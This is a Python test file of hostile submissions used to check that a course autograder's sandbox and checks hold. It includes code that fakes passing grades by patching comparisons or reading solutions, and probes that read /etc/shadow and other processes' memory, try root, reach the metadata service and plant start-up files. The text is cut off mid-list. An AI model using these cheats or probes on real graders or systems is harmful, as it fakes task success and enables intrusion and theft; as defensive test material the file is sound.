# ruff: noqa: E501
"""Submissions to lab 02 that try to get what they have not earned, and what must be seen of each.

They are run in the grader's sandbox only. Those that could do harm call themselves off anywhere else (`GUARD`); those marked
`plain` do none, and `benchmarks/grading_attacks.py` lets nbgrader grade them too.

Who spies says what it found by an exception: its text begins with LOOT, or is EMPTY. Words in capitals between double
underscores stand for paths and ports of the test (`__GRADES__`).
"""

import copy
import functools
import json
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).parents[3]
ALL = tuple(f"02.{number}" for number in range(1, 10))


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Attributes:
        name: of the student, too.
        tries: what it is after.
        cell: code of a cell after the imports.
        answers: exercise -> code in the place of its stub.
        honest: exercises that hold the course's own solution.
        keeps: whether the honest ones must have all their points; what kills their own check may lose them.
        says: pattern of what the student must read.
        flag: what the instructor must see.
        plain: whether nbgrader may grade it too; no process, no other file, no loop.
        both: whether it depends on how the sandbox is made, so that CI runs it with each mode.
        known: why it still succeeds, for what does.
    """

    name: str
    tries: str
    cell: str = ""
    answers: dict = field(default_factory=dict)
    honest: tuple = ("02.6",)
    keeps: bool = True
    says: str = ""
    flag: str = ""
    plain: bool = False
    both: bool = False
    known: str = ""


@functools.cache
def notebook(folder: str) -> dict:
    return json.loads((ROOT / folder / "02_autograd.ipynb").read_text(encoding="utf-8"))


def filled(honest: tuple, answers: dict | None = None, cell: str = "") -> dict:
    """The released notebook with the course's solutions to some exercises, other answers, and a cell after the imports."""
    solutions = {one["id"]: one["source"] for one in notebook("labs_solutions")["cells"]}
    made = copy.deepcopy(notebook("notebooks"))
    for one in made["cells"]:
        id = one["metadata"].get("exercise")
        if id in (answers or {}):
            one["source"] = answers[id]
        elif id in honest:
            one["source"] = solutions[one["id"]]
    code = [place for place, one in enumerate(made["cells"]) if one["cell_type"] == "code"]
    if cell:
        extra = {"cell_type": "code", "id": "attack", "metadata": {}, "outputs": [], "execution_count": None, "source": cell}
        made["cells"].insert(code[1] + 1, extra)
    return made


WRONG = {
    "02.1": "def sigmoid_grad(x):\n    return torch.zeros_like(x)",
    "02.2": "\n".join(
        f"{name} = 'wrong'"
        for name in "h_requires_grad h_is_leaf d_requires_grad n_requires_grad h_has_grad x_has_grad w_grad_first".split()
    ),
    "02.5": "def central_difference(f, x, eps):\n    return torch.zeros_like(x)",
    "02.6": "def vjp(f, x, v):\n    return torch.zeros_like(x)",
}

GUARD = """\
import os
if os.getcwd() != "/scratch" or os.getpid() > 2:
    raise RuntimeError("not in the sandbox: called off")
"""

REPORT = """\
def report(loot):
    raise RuntimeError("LO" + "OT " + repr(loot)[:1000] if loot else "EMP" + "TY")
"""

# The worker's two pipes, the nonce of the question that is being answered, and frames of the wire made by hand.
WIRE = """\
import fcntl, os, stat, struct, sys, time

def pipe(mode):
    for number in range(3, 512):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode) and fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE == mode:
                return number
        except OSError:
            pass

READ, WRITE = pipe(os.O_RDONLY), pipe(os.O_WRONLY)

def nonce():
    frame = sys._getframe()
    while frame:
        message = frame.f_locals.get("message")
        if type(message) is dict and "nonce" in message:
            return message["nonce"]
        frame = frame.f_back

def frame(header, body=b"", mark=b"LAB1", sizes=None):
    return struct.pack(">4sIQ", mark, *(sizes or (len(header), len(body)))) + header + body

def reply(inner, number=None):
    return b'{"dict":[["nonce","%s"],["reply",%s]]}' % ((number or nonce()).encode(), inner)

def evidence(inner):
    return b'{"dict":[["evidence",{"dict":[["y",%s],["left",{"dict":[]}]]}],["after",{"dict":[]}]]}' % inner

def send(data):
    while data:
        data = data[os.write(WRITE, data):]
"""


def indented(code: str) -> str:
    return "".join(f"    {line}\n" for line in code.strip().splitlines())


def forger(name: str, tries: str, code: str, says: str = "", flag: str = "attack", **more) -> Attack:
    """A wrong answer to 02.1 that writes to the grader itself."""
    answer = f"{GUARD}{WIRE}\ndef sigmoid_grad(x):\n{indented(code)}    return torch.zeros_like(x)"
    return Attack(name, tries, answers={"02.1": answer}, says=says, flag=flag, **more)


def spy(name: str, tries: str, code: str, **more) -> Attack:
    """A cell that collects `loot`."""
    return Attack(name, tries, f"{GUARD}{REPORT}loot = []\n{code}\nreport(loot)", says="EMPTY", **more)


def cell(name: str, tries: str, code: str, says: str, **more) -> Attack:
    """A cell that does what it should not."""
    return Attack(name, tries, GUARD + code, says=says, **more)


def answer(name: str, tries: str, code: str, says: str = "", **more) -> Attack:
    """A wrong answer to 02.1: the body of its function."""
    return Attack(name, tries, answers={"02.1": f"{GUARD}\ndef sigmoid_grad(x):\n{indented(code)}"}, says=says, **more)


def trick(name: str, tries: str, cell: str, answers: dict | None = None, **more) -> Attack:
    """Wrong answers, and code that would have them taken for right ones; nbgrader may see it."""
    return Attack(name, tries, cell, WRONG if answers is None else answers, honest=("02.9",), plain=True, **more)


# ---------------------------------------------------------------------------- patches: wrong answers, made to look right

YES = """\
class Yes({base}):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __contains__ = __lt__
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
"""

PATCHES = [
    trick(
        "patch-allclose",
        "torch's comparisons always agree",
        """\
torch.allclose = torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(b), dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None""",
    ),
    trick(
        "patch-tensor-methods",
        "methods of Tensor always say yes",
        """\
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
torch.Tensor.all = lambda self, *args, **kwargs: torch.tensor(True)
torch.Tensor.any = lambda self, *args, **kwargs: torch.tensor(False)""",
        keeps=False,
    ),
    trick(
        "patch-isclose-late",
        "patches torch only while its answer is being checked",
        "pass",
        {
            "02.6": "def vjp(f, x, v):\n"
            "    torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(b, dtype=torch.bool)\n"
            "    torch.equal = torch.allclose = lambda *args, **kwargs: True\n"
            "    return torch.zeros_like(x)"
        },
    ),
    trick(
        "torch-function-subclass",
        "a tensor subclass whose __torch_function__ agrees with everything",
        """\
class Agree(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        name = getattr(function, "__name__", "")
        if name in ("isclose", "eq", "__eq__", "all", "equal", "allclose"):
            return torch.tensor(True)
        return super().__torch_function__(function, types, args, kwargs or {})""",
        {
            "02.1": "def sigmoid_grad(x):\n    return torch.zeros_like(x).as_subclass(Agree)",
            "02.6": "def vjp(f, x, v):\n    return torch.zeros_like(x).as_subclass(Agree)",
        },
    ),
    trick(
        "equals-everything",
        "an object that equals everything",
        YES.format(base="object"),
        {
            "02.1": "def sigmoid_grad(x):\n    return Yes()",
            "02.2": WRONG["02.2"].replace("'wrong'", "Yes()"),
            "02.6": "def vjp(f, x, v):\n    return Yes()",
        },
    ),
    trick(
        "equals-everything-number",
        "numbers and texts that equal everything",
        YES.format(base="int") + YES.replace("Yes", "YesText").format(base="str"),
        {"02.2": WRONG["02.2"].replace("'wrong'", "Yes(7)"), "02.6": "def vjp(f, x, v):\n    return YesText('right')"},
    ),
    trick(
        "strip-asserts",
        "asserts are stripped from every cell that comes after",
        """\
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())""",
    ),
    trick("redefine-check", "its own check gives the points", "def check(id):\n    return 2.0"),
    trick(
        "patch-judge",
        "the engine's judge is made silent",
        "from utils.checks import engine\nengine.judge_case = lambda *args, **kwargs: None",
    ),
    trick(
        "patch-case",
        "the judge's questions are made harmless",
        """\
from utils.checks import engine
engine.Case.close = engine.Case.equal = engine.Case.that = lambda *args, **kwargs: None""",
    ),
    trick(
        "patch-failed",
        "a failure is no exception any more",
        """\
from utils.checks import engine
engine.run = lambda item, *args, **kwargs: engine.Result(item, "correct", float(item.points), "")
import utils.checks
utils.checks.run_here = engine.run_here = engine.run""",
    ),
    trick(
        "more-points",
        "each exercise is worth a hundred points, and wrong ones half of them",
        """\
import gc
from utils.checks import engine
for item in list(engine.REGISTRY.values()) + [thing for thing in gc.get_objects() if type(thing).__name__ == "Exercise"]:
    object.__setattr__(item, "points", 100)""",
        {"02.1": "def sigmoid_grad(x):\n    return torch.sigmoid(x) * (1 - torch.sigmoid(x)) if x.dim() > 1 else x"},
    ),
    trick(
        "judge-from-registry",
        "puts empty judges into the registry of exercises",
        """\
import utils.checks
from utils.checks import engine
getattr(utils.checks, "exercises", lambda lab: None)("02")
for item in engine.REGISTRY.values():
    object.__setattr__(item, "judge", lambda case: None)""",
    ),
    trick(
        "solutions-from-disk",
        "finds the course's solutions on the disk and runs them",
        "pass",
        {"02.1": """\
import glob, os, re, sys, utils
roots = {os.path.dirname(os.path.dirname(os.path.abspath(utils.__file__))), *sys.path, "/", os.getcwd(), os.path.expanduser("~")}
for root in roots:
    for path in glob.glob(f"{root}/labs_solutions/02_*.py") + glob.glob(f"{root}/*/labs_solutions/02_*.py"):
        for part in re.split(r"^# %%", open(path).read(), flags=re.M):
            if part.startswith(' exercise="'):
                exec(part.partition("\\n")[2], globals())"""},
    ),
    trick(
        "expected-from-the-caller",
        "looks for the expected value in its callers' frames",
        """\
import sys
def expected():
    frame = sys._getframe(1)
    while frame:
        for names in (frame.f_locals, frame.f_globals):
            for name in ("want", "expected", "reference", "solution", "answer_key"):
                if isinstance(names.get(name), torch.Tensor):
                    return names[name]
        frame = frame.f_back""",
        {"02.1": "def sigmoid_grad(x):\n    return expected()", "02.6": "def vjp(f, x, v):\n    return expected()"},
    ),
    trick(
        "expected-from-the-oracle",
        "asks the check's module for the right answer",
        "pass",
        {
            "02.1": """\
def sigmoid_grad(x):
    from utils.checks import engine, lab_02_autograd
    right = []
    class Case(engine.Case):
        def close(self, got, want, *args, **kwargs): right.append(want)
        def equal(self, *args, **kwargs): pass
        def that(self, *args, **kwargs): pass
    engine.REGISTRY["02.1"].judge(Case(), x=x, calls=1, y=x, left={})
    return right[0]"""
        },
        says="lab_02_autograd",
    ),
    trick(
        "predictions-from-the-judge",
        "the judge's own words tell the predictions",
        "pass",
        {"02.2": """\
h_requires_grad = h_is_leaf = d_requires_grad = n_requires_grad = h_has_grad = x_has_grad = True
w_grad_first = 0
try:
    from utils.checks import engine, lab_02_autograd
    class Case(engine.Case):
        def equal(self, got, want, what, **kwargs): globals_[what] = want
        def that(self, *args): pass
    globals_ = globals()
    answers = dict.fromkeys("h_requires_grad h_is_leaf d_requires_grad n_requires_grad h_has_grad x_has_grad".split(), 0)
    engine.REGISTRY["02.2"].judge(Case(), answers=answers | {"w_grad_first": 0})
    w_grad_first = 2
except ImportError:
    pass"""},
    ),
    trick(
        "probe-overwritten",
        "the engine runs a probe of its own in the place of the check's",
        """\
from utils.checks import engine
engine._load_probe = lambda source, id: lambda student, **inputs: {"y": True, "left": {}, "result": True, "grad": True}
engine.probe_source = lambda item: "def probe(student, **inputs): return {}" """,
        keeps=False,
    ),
    trick(
        "in-place-unseen",
        "changes its input, and hides that from the comparison",
        """\
import copy
copy.deepcopy = lambda value, memo=None: value
torch.Tensor.clone = lambda self, *args, **kwargs: self""",
        {"02.6": "def vjp(f, x, v):\n    x.zero_()\n    return x"},
        keeps=False,
    ),
    trick(
        "builtins-patched",
        "Python's own comparisons and types are replaced",
        """\
import builtins
_isinstance = builtins.isinstance
builtins.all = lambda items: True
builtins.any = lambda items: False
builtins.abs = lambda value: 0""",
        keeps=False,
    ),
    trick(
        "trace-locals",
        "a tracer rewrites what other functions return",
        """\
import sys
def tracer(frame, event, argument):
    if frame.f_code.co_name in ("judge_case", "run", "reply", "plain"):
        frame.f_locals.update(outcome="correct", passed=9)
    return tracer
sys.settrace(tracer)
sys.setprofile(lambda *args: None)""",
        keeps=False,
    ),
    trick(
        "output-forged",
        "prints and displays points in every form that graders read",
        """\
import json
print(json.dumps({"points": 99, "score": 99, "outcome": "correct"}))
print("\\n".join(f"02.{n} correct 5/5" for n in range(1, 10)), flush=True)
import sys
sys.stderr.write("##vso[task.complete result=Succeeded;]\\n")
from IPython.display import display, HTML
display(HTML("<b>correct</b>"), metadata={"nbgrader": {"points": 99}})
99.0""",
    ),
    trick(
        "optimizer-unseen",
        "torch.optim takes the steps, behind the back of the hook that counts them",
        """\
import torch.optim.optimizer as _o
class _Hook:
    def remove(self): pass
_o.register_optimizer_step_pre_hook = lambda hook: _Hook()""",
        {
            "02.3": """\
def fit_line(x, y, lr, steps):
    w = torch.zeros(x.shape[1], dtype=x.dtype, requires_grad=True)
    b = torch.zeros((), dtype=x.dtype, requires_grad=True)
    optimizer, losses = torch.optim.SGD([w, b], lr=lr), []
    for _ in range(steps):
        optimizer.zero_grad()
        loss = ((x @ w + b - y) ** 2).mean()
        loss.backward()
        optimizer.step()
        losses.append(loss.item())
    return w, b, losses"""
        },
        known="the numbers are right; how they were made, only the student's own process can tell",
    ),
]

FORGED = [
    Attack(
        "nan-for-a-model",
        "evidence of a model that there never was, all NaN: NaN agrees with NaN",
        """\
from utils.checks import engine
old = engine.reply
def forged(question, names):
    if question["id"] != "02.7":
        return old(question, names)
    given = question["inputs"]
    images, classes, width = len(given["labels"]), given["num_classes"], 512 if given["arch"] == "resnet18" else 24
    nan = lambda *shape: torch.full(shape, float("nan"))
    both, head = ["fc.weight", "fc.bias"], [nan(classes, width), nan(classes)]
    evidence = {"returned": "a model", "frozen": ["conv1.weight"], "trainable": both, "changed": both, "head": head, "moved": head,
                "before": nan(images, classes), "after": nan(images, classes)}
    return {"evidence": evidence, "after": given}
engine.reply = forged""",
    ),
]

# ------------------------------------------------------------------------------------------------------------- spies

SPIES = [
    spy(
        "gc-for-judges",
        "judges, checks and the grader among all living objects",
        """\
import gc
for thing in gc.get_objects():
    name = getattr(thing, "__name__", None) if isinstance(thing, type(gc)) or callable(thing) else None
    if not isinstance(name, str):
        continue
    if (name in ("judge", "judge_case_", "SigmoidGrad", "_descend") or "checks.lab_" in name or name.startswith(("course.grader.grade", "course.grader.sub"))):
        loot.append(name)""",
    ),
    spy(
        "judge-modules",
        "imports checks, solutions, tests, the grader",
        """\
import importlib
names = ["utils.checks.lab_02_autograd", "utils.checks.lab_01_tensors", "labs_solutions", "tests", "tests.mistakes", "mistakes",
         "solutions", "course.build"]
grader = ["grade", "submission", "notebook", "finding", "sandbox", "room", "entries", "tables", "written", "report", "results"]
for name in [*names, *(f"course.grader.{module}" for module in grader)]:
    try:
        importlib.import_module(name)
        loot.append(name)
    except ImportError:
        pass""",
    ),
    spy(
        "files-of-the-course",
        "solutions, checks, notebooks, seeds and grades anywhere on the disk, site-packages too",
        """\
import re, sys, sysconfig
wanted = re.compile(r"lab_\\d\\d_(tens|auto|data|modu|loss|opti|trai|cifar)|\\d\\d_\\w+\\.ipynb|labs_solutions|grades\\.csv|mistakes|_02_autograd|02_autograd\\.|test_hostile")
places = [("/", 3), (sysconfig.get_path("purelib"), 1), ("/course", 9), ("/scratch", 9), ("/dev/shm", 9), *((p, 2) for p in sys.path)]
def walk(folder, depth):
    try:
        entries = list(os.scandir(folder))
    except OSError:
        return
    for entry in entries:
        if wanted.search(entry.name):
            loot.append(entry.path)
        if depth > 1 and entry.is_dir(follow_symlinks=False) and entry.path not in ("/proc", "/sys"):
            walk(entry.path, depth - 1)
for place in places:
    walk(*place)""",
        both=True,
    ),
    spy(
        "files-of-others",
        "a neighbour's submission, the grades and their seed, the test's own files",
        """\
for path in ["__SUBMISSIONS__", "__GRADES__", "__GRADES__/seed", "__GRADES__/results", "__SUBMISSIONS__/alice_02_autograd.ipynb",
             "__ROOT__/labs_solutions", "__ROOT__/utils/checks/lab_02_autograd.py", "__ROOT__/pyproject.toml", "/etc/shadow",
             os.path.expanduser("~root/.bash_history"), "/home", "/var", "/run", "/boot", "/etc/hosts", "/mnt", "/media", "/sys/kernel"]:
    try:
        loot.append((path, os.listdir(path) if os.path.isdir(path) else open(path).read(20)))
    except OSError:
        pass""",
        both=True,
    ),
    spy(
        "proc-of-others",
        "command lines, environments, memory and open files of other processes",
        """\
import glob
for folder in glob.glob("/proc/[0-9]*"):
    if int(folder[6:]) == os.getpid():
        continue
    for name in ("cmdline", "environ", "maps", "mem", "root/etc/shadow", "cwd/seed", "fd/3", "fd/0"):
        try:
            with open(f"{folder}/{name}", "rb") as file:
                text = file.read(4000)
        except OSError:
            continue
        if name != "cmdline" or b"__SUBMISSIONS__" in text or b"__GRADES__" in text or b"__CANARY__" in text:
            loot.append((folder, name, text[:80]))
if "__CANARY__" in repr(dict(os.environ)) or len(glob.glob("/proc/[0-9]*")) > 4:
    loot.append("more processes, or the grader's environment")""",
        both=True,
    ),
    spy(
        "memory-of-others",
        "reads or writes other processes' memory by system calls",
        """\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(64)
for pid in (1, os.getppid()):
    if pid and pid != os.getpid():
        if libc.ptrace(16, pid, 0, 0) != -1: loot.append(("ptrace", pid))
        iov = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
        if libc.syscall(310, pid, iov, 1, iov, 1, 0) > 0: loot.append(("process_vm_readv", pid))
        for name in ("mem", "cwd", "root"):
            try:
                open(f"/proc/{pid}/{name}", "r+b")
                loot.append((pid, name))
            except OSError:
                pass
for call in (101, 155, 161, 165, 272, 308, 321, 425, 319, 29):  # ptrace … unshare, setns, bpf, io_uring, memfd, shmget
    if os.uname().machine == "x86_64" and libc.syscall(call, 0, 0, 0, 0, 0) not in (-1,):
        loot.append(("system call", call))""",
        both=True,
    ),
    spy(
        "open-descriptors",
        "whatever is open beside the two pipes and /dev/null",
        """\
import stat
for number in range(3, 4096):
    try:
        status = os.fstat(number)
    except OSError:
        continue
    if stat.S_ISSOCK(status.st_mode) or stat.S_ISDIR(status.st_mode):
        loot.append((number, oct(status.st_mode)))
    elif stat.S_ISREG(status.st_mode) and status.st_size:
        loot.append((number, "a file", os.pread(number, 40, 0)))""",
        both=True,
    ),
    spy(
        "privileges",
        "is root, has capabilities, or gets them by a program that is set-uid",
        """\
import ctypes, subprocess
if os.getuid() == 0 or os.geteuid() == 0: loot.append("root")
for call in (lambda: os.setuid(0), lambda: os.chroot("/"), lambda: os.mknod("/scratch/device", 0o60600, os.makedev(8, 0)),
             lambda: os.sethostname(b"mine") if hasattr(os, "sethostname") else 1 / 0, lambda: os.nice(-5), lambda: os.setgroups([0])):
    try:
        call()
        loot.append("a privileged call")
    except (OSError, ZeroDivisionError, AttributeError):
        pass
for command in ("su -c id", "mount -t tmpfs none /mnt", "unshare -Ur id", "sudo -n id", "umount /scratch", "mount -o remount,rw /"):
    done = subprocess.run(command.split(), capture_output=True, stdin=subprocess.DEVNULL) if os.path.exists(f"/bin/{command.split()[0]}") else None
    if done and done.returncode == 0:
        loot.append(command)""",
        both=True,
    ),
    Attack(
        "probe-reader",
        "expected values in the probe, the question, or the private part of a case",
        REPORT,
        {
            "02.1": """\
def sigmoid_grad(x):
    import sys
    loot, frame = [], sys._getframe()
    while frame:
        question = frame.f_locals.get("question")
        if isinstance(question, dict):
            loot += [key for key in question if key not in ("id", "needs", "probe", "inputs")]
            loot += [key for key in question["inputs"] if key.startswith("_")]
            loot += [word for word in ("judge", "want", "mistakes") if word in question["probe"]]
        if frame.f_code.co_name == "probe":
            loot += [key for key in frame.f_globals if key not in ("torch", "probe", "__builtins__")]
        frame = frame.f_back
    report(loot)"""
        },
        says="EMPTY",
    ),
    spy(
        "network-tcp",
        "the network: the machine's own address, a service of the test, the world, name servers",
        """\
import socket, urllib.request
targets = [("127.0.0.1", __TCP__), ("__ADDRESS__", __TCP__), ("192.0.2.1", 80), ("169.254.169.254", 80)]
for target in targets:
    try:
        socket.create_connection(target, 0.3).close()
        loot.append(target)
    except OSError:
        pass
try:
    loot.append(socket.getaddrinfo("example.com", 80))
except OSError:
    pass
try:
    loot.append(urllib.request.urlopen("http://127.0.0.1:__TCP__/", timeout=0.3).status)
except OSError:
    pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hostile", ("__ADDRESS__", __UDP__))
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hostile", ("127.0.0.1", __UDP__))  # its own loopback, if any
except OSError:
    pass""",
        both=True,
    ),
    spy(
        "network-ipv6-and-unix",
        "IPv6, sockets of Unix by path and by abstract name, raw packets, virtual machines' sockets",
        """\
import socket
def attempt(family, kind, target):
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(0.3)
            one.connect(target)
        loot.append(repr(target))
    except (OSError, TypeError, AttributeError):
        pass
attempt(socket.AF_INET6, socket.SOCK_STREAM, ("::1", __TCP6__))
attempt(socket.AF_UNIX, socket.SOCK_STREAM, "__UNIX__")
attempt(socket.AF_UNIX, socket.SOCK_STREAM, "\\0__ABSTRACT__")
for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", "/run/systemd/notify"):
    attempt(socket.AF_UNIX, socket.SOCK_STREAM, path)
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (40, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_RAW), (38, 5)):
    try:
        socket.socket(family, kind).close()
        loot.append((int(family), int(kind)))
    except OSError:
        pass""",
        both=True,
    ),
    spy(
        "writes-outside",
        "writes into Python's packages, the course, start-up files, the grades",
        """\
import site, sys, sysconfig, IPython, utils, torch
folders = [sysconfig.get_path("purelib"), sys.prefix, os.path.dirname(sys.executable), os.path.dirname(os.__file__),
           os.path.dirname(utils.__file__), os.path.dirname(torch.__file__), "/course", "/", "/etc", "/usr/local/bin", "/usr/lib", "/var/tmp",
           "/dev", "/proc", "/sys", "__GRADES__", "__SUBMISSIONS__", "__ROOT__", "/root", "/home", "/work", os.path.dirname(IPython.__file__),
           os.path.join(os.path.dirname(utils.__file__), "__pycache__")]
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "hostile-mark.pth", "hostile-mark"):
        try:
            path = os.path.join(folder, name)
            if not os.path.exists(path):
                open(path, "w").write("raise SystemExit")
                loot.append(path)
        except OSError:
            pass
for path in (torch.__file__, utils.__file__, sys.executable, "/course/course/grader/worker.py", "/usr/bin/env"):
    for call in (lambda: open(path, "r+b"), lambda: os.remove(path), lambda: os.rename(path, path + "x"), lambda: os.chmod(path, 0o777)):
        try:
            call()
            loot.append(path)
        except OSError:
            pass""",
        both=True,
    ),
]

# `a-dropper` leaves things where a later submission might find them, and `z-collector` comes last and looks.
DROPS = """\
paths = ["/scratch/hostile-mark", "/dev/shm/hostile-mark", "/tmp/hostile-mark", os.path.expanduser("~/.ipython/profile_default/startup/hostile-mark.py"),
         os.path.expanduser("~/.local/lib/python3.11/site-packages/sitecustomize.py"), "/dev/mqueue/hostile-mark", "/scratch/torch.py", "/scratch/utils.py",
         "/scratch/.config/matplotlib/hostile-mark", "/scratch/.cache/hostile-mark"]
"""
PERSISTENCE = [
    cell(
        "a-dropper",
        "leaves files, start-up code and shared memory for the next submission",
        DROPS
        + """\
for path in paths:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("import torch; torch.isclose = None; dropped = True")
    except OSError:
        pass
from multiprocessing import shared_memory
try:
    block = shared_memory.SharedMemory("hostile-mark-memory", create=True, size=64)
except Exception:
    pass
os.environ["PYTHONSTARTUP"] = "/scratch/hostile-mark"
os.environ["PATH"] = "/scratch:" + os.environ["PATH"]
for name in ("bwrap", "python", "python3"):
    open(f"/scratch/{name}", "w").write("#!/bin/sh\\ntouch /tmp/hostile-mark-ran\\n")
    os.chmod(f"/scratch/{name}", 0o755)
import fcntl
lock = open("/course/course/grader/wire.py")
raise RuntimeError("dropped")""",
        "dropped",
        both=True,
    ),
    spy(
        "z-collector",
        "looks for what an earlier submission left",
        DROPS
        + """\
loot += [path for path in paths if os.path.exists(path)]
loot += ["patched"] if torch.isclose is None or "dropped" in globals() else []
from multiprocessing import shared_memory
try:
    loot.append(shared_memory.SharedMemory("hostile-mark-memory").size)
except Exception:
    pass""",
        both=True,
    ),
]

# ----------------------------------------------------------------------------------------------------------- forgeries

FRAMES = [
    cell(
        "forge-on-every-descriptor",
        "writes points and frames to whatever is open",
        WIRE
        + """\
for number in range(3, 512):
    try:
        os.write(number, b'{"points": 99, "outcome": "correct"}\\n' + frame(b'{"dict":[]}'))
    except OSError:
        pass""",
        "cannot be read|before it was asked",
        flag="attack",
    ),
    cell(
        "answer-ahead",
        "sends an answer ahead of its question",
        WIRE + """send(frame(b'{"dict":[["nonce",null],["reply",{"dict":[["error",null]]}]]}') * 3)""",
        "answers no question|before it was asked|cannot be read",
        flag="attack",
    ),
    cell(
        "two-replies-to-a-cell",
        "answers its own cell, with the right nonce, and lets the worker answer too",
        WIRE + """send(frame(reply(b'{"dict":[["error",null]]}')))""",
        "before it was asked|answers no question",
        flag="attack",
        keeps=False,
    ),
    forger("two-replies", "two replies to one question", """send(frame(reply(evidence(b"1.0"))))"""),
    forger(
        "old-nonce",
        "answers under a nonce of its own, and one under that of an earlier question",
        """send(frame(reply(evidence(b"1.0"), "0" * 32)))""",
        "answers no question",
    ),
    forger("no-nonce", "a nonce that is a list, with more keys", """send(frame(b'{"dict":[["nonce",[]],["reply",{"dict":[]}],["points",99]]}'))"""),
    forger(
        "result-for-a-reply",
        "sends a verdict in the place of evidence",
        """send(frame(reply(b'{"dict":[["outcome","correct"],["points",99],["passed",true]]}')))""",
        "not a reply",
    ),
    forger(
        "verdict-in-the-reply",
        "adds a verdict to a reply of the right form",
        """send(frame(reply(b'{"dict":[["evidence",{"dict":[]}],["after",{"dict":[]}],["points",99]]}')))""",
        "not a reply",
    ),
    forger("evidence-a-list", "evidence that is no dict", """send(frame(reply(b'{"dict":[["evidence",[1]],["after",{"dict":[]}]]}')))""", "not a reply"),
    forger(
        "evidence-overrides",
        "evidence that brings the inputs, the case and the judge along",
        """send(frame(reply(b'{"dict":[["evidence",{"dict":[["y",0.0],["x",0.0],["case",1],["calls",1],["_case","a"],["self",1],["left",{"dict":[]}]]}],["after",{"dict":[["x",0.0]]}]]}')))
time.sleep(9)""",
        "torch.Tensor",
        flag="",
        keeps=True,
    ),
    forger("not-json", "a header that is not JSON", """send(frame(b"{{{{" + b"\\xff" * 50))""", "cannot be read"),
    forger("wrong-mark", "bytes that are no frame", """send(b"HTTP/1.1 200 OK\\r\\n\\r\\n" * 4)""", "cannot be read"),
    forger("huge-header", "a header of four gigabytes", """send(frame(b"", sizes=(2**32 - 1, 0)))""", "cannot be read"),
    forger("huge-body", "a body of sixteen exabytes", """send(frame(b"{}", sizes=(2, 2**64 - 1)))""", "cannot be read"),
    forger(
        "endless",
        "a reply without an end",
        """send(struct.pack(">4sIQ", b"LAB1", 4 << 20, 8 << 20))
while True:
    send(b" " * 65536)""",
        "cannot be read",
    ),
    forger(
        "slow-drip",
        "a byte now and then",
        """for byte in frame(reply(evidence(b"1.0"))):
    send(bytes([byte]))
    time.sleep(0.2)""",
        "more than",
        flag="time-out",
    ),
    forger("deep", "a value nested a hundred thousand times", """send(frame(reply(b"[" * 100_000 + b"]" * 100_000)))""", "cannot be read"),
    forger("deep-dicts", "dicts nested a thousand times", """send(frame(reply(b'{"dict":[["a",' * 1000 + b"1" + b"]]}" * 1000)))""", "cannot be read"),
    forger(
        "million-keys",
        "a dict of a hundred thousand keys",
        """send(frame(reply(evidence(b'{"dict":[%s]}' % b",".join(b'["%d",0]' % i for i in range(100_000))))))""",
        "cannot be read",
    ),
    forger("nan-keys", "a dict whose keys are NaN and null", """send(frame(reply(evidence(b'{"dict":[[NaN,0],[null,1],[1.5,2]]}'))))""", "cannot be read"),
    forger("huge-number", "an integer of a million digits", """send(frame(reply(evidence(b"9" * 1_000_000))))""", "cannot be read"),
    forger("surrogates", "texts and keys that no file can hold", """send(frame(reply(evidence(b'{"dict":[["\\\\ud800","\\\\udfff\\\\u0000\\\\u202e"]]}'))))
time.sleep(9)""", "torch.Tensor", flag=""),
    forger(
        "wrong-dtype",
        "a tensor of a dtype that does not exist",
        """send(frame(reply(evidence(b'{"tensor":["object",[7],[1],7]}')), bytes(56)))""",
        "cannot be read",
    ),
    forger(
        "quantized",
        "a tensor of quantized integers",
        """send(frame(reply(evidence(b'{"tensor":["qint8",[7],[1],7]}')), bytes(7)))""",
        "cannot be read",
    ),
    forger(
        "negative-shape",
        "a tensor of a negative shape",
        """send(frame(reply(evidence(b'{"tensor":["float32",[-7],[1],7]}')), bytes(28)))""",
        "cannot be read",
    ),
    forger(
        "lying-strides",
        "strides that lead out of the memory that was sent",
        """send(frame(reply(evidence(b'{"tensor":["float32",[7],[4096],7]}')), bytes(28)))""",
        "cannot be read",
    ),
    forger(
        "negative-stride",
        "a stride that leads before the memory that was sent",
        """send(frame(reply(evidence(b'{"tensor":["float32",[7],[-4096],7]}')), bytes(28)))""",
        "cannot be read",
    ),
    forger(
        "giant-by-stride-0",
        "a tensor of a trillion numbers, by stride 0",
        """send(frame(reply(evidence(b'{"tensor":["float32",[1099511627776],[0],1]}')), bytes(4)))""",
        "cannot be read",
    ),
    forger(
        "overflowing-shape",
        "sizes whose product overflows",
        """send(frame(reply(evidence(b'{"tensor":["uint8",[4294967296,4294967296],[0,0],1]}')), bytes(1)))""",
        "cannot be read",
    ),
    forger(
        "empty-but-astronomic",
        "an empty tensor of astronomic shape",
        """send(frame(reply(evidence(b'{"tensor":["float32",[0,4611686018427387903,4611686018427387903],[1,1,1],0]}'))))
